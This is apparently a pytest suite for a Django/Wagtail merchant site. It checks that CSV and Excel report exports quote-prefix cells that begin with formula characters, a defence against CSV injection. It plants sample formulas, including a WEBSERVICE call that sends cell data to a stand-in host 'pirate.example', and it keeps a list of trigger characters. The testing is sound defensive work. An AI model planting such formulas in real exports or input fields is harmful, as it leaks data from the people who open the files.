"""Spreadsheet exports never carry a live formula (OWASP's CSV injection), whichever
report writes them: ours and Wagtail's own, CSV and Excel."""

import csv
import datetime
import io

import pytest
from django.utils import timezone
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from home.models import StaleTranslation
from home.spreadsheets import read_spreadsheet_text, spreadsheet_text
from merchants.collect.models import PickupRequest
from merchants.models import MerchantPage

FORMULAS = [
    '=WEBSERVICE("https://pirate.example/?"&A1)',
    '=HYPERLINK("https://pirate.example","Cliquez")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1",
    "  =1+1",
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


@pytest.mark.parametrize("value", FORMULAS)
def test_formulas_are_quoted_and_read_back(value):
    written = spreadsheet_text(value)
    assert written == "'" + value
    assert read_spreadsheet_text(written) == value


@pytest.mark.parametrize(
    "value", ["Boulangerie du Quai", "04 65 71 00 01", "45.070000", "", "Pain = amour", "5 €"]
)
def test_ordinary_text_is_written_as_it_is(value):
    assert spreadsheet_text(value) == value
    assert read_spreadsheet_text(value) == value


def test_numbers_and_dates_are_left_alone():
    assert spreadsheet_text(-3) == -3
    assert spreadsheet_text(None) is None
    assert spreadsheet_text(datetime.date(2030, 6, 1)) == datetime.date(2030, 6, 1)


def test_a_quote_typed_by_hand_survives_the_round_trip():
    assert spreadsheet_text("'Tis the season") == "''Tis the season"
    assert read_spreadsheet_text("''Tis the season") == "'Tis the season"
    # Typed in an import file by hand, not by the export: kept.
    assert read_spreadsheet_text("'Tis the season") == "'Tis the season"


@given(st.text())
def test_every_text_round_trips_and_never_starts_a_formula(value):
    written = spreadsheet_text(value)
    assert read_spreadsheet_text(written) == value
    assert not written.startswith(TRIGGERS)


# Reports, with hostile values planted where visitors, merchants and editors can.

SHOP = '=HYPERLINK("https://pirate.example","Cliquez")'
SEARCH = '=WEBSERVICE("https://pirate.example/?"&A1)'
REPORTS = [
    "/admin/reports/searches-without-results/",
    "/admin/reports/call-and-collect/",
    "/admin/reports/stale-translations/",
    "/admin/searchpicks/reports/search-terms/",
    "/admin/reports/site-history/",
    "/admin/reports/aging-pages/",
]


@pytest.fixture
def hostile_data(client, db):
    """A visitor's searches, a shop's name (and its English title) with formulas."""
    for query in (SEARCH, "-2+3 zzzqx", "@zzzqx"):
        assert client.get("/recherche/", {"q": query}).status_code == 200
    shop = MerchantPage.objects.get(external_id="demo-002", locale__language_code="fr")
    shop.title = SHOP
    shop.save_revision().publish()
    english = MerchantPage.objects.get(
        translation_key=shop.translation_key, locale__language_code="en"
    )
    PickupRequest.objects.create(
        merchant=shop, kind=PickupRequest.Kind.CALLBACK, name="@Lou", phone="+33465712030"
    )
    StaleTranslation.objects.update_or_create(
        page=english,
        defaults={
            "source_page": shop,
            "since": timezone.now(),
            "changed_at": timezone.now(),
            "strings_to_translate": 2,
        },
    )
    return shop


def csv_cells(response):
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    text = b"".join(response.streaming_content).decode()
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


@pytest.mark.parametrize("url", REPORTS)
def test_csv_exports_never_start_a_cell_with_a_formula(admin_client, hostile_data, url):
    cells = csv_cells(admin_client.get(url, {"export": "csv"}))
    assert len(cells) > 1
    assert not [cell for cell in cells if cell.startswith(TRIGGERS)]
    # Wagtail's "Search terms" keeps queries in lower case.
    quoted = {read_spreadsheet_text(cell).lower() for cell in cells if cell.startswith("'")}
    assert quoted & {SHOP.lower(), SEARCH.lower()}, cells[:40]


@pytest.mark.parametrize("url", REPORTS)
def test_excel_exports_keep_formulas_as_quoted_text(admin_client, hostile_data, url):
    response = admin_client.get(url, {"export": "xlsx"})
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    formulas = [
        cell for cell in cells if isinstance(cell.value, str) and cell.value.startswith(TRIGGERS)
    ]
    assert {cell.value.lower() for cell in formulas} & {SHOP.lower(), SEARCH.lower()}
    for cell in formulas:
        assert cell.data_type == "s", cell.value
        assert cell.quotePrefix, cell.value


def test_excel_export_of_a_name_with_control_characters(admin_client, hostile_data):
    """XML cannot hold most control characters: they are left out, the export works."""
    MerchantPage.objects.filter(pk=hostile_data.pk).update(title="Cave\x0b du\x1b Rhône")
    response = admin_client.get("/admin/reports/call-and-collect/", {"export": "xlsx"})
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    assert "Cave du Rhône" in [cell.value for row in sheet.iter_rows() for cell in row]
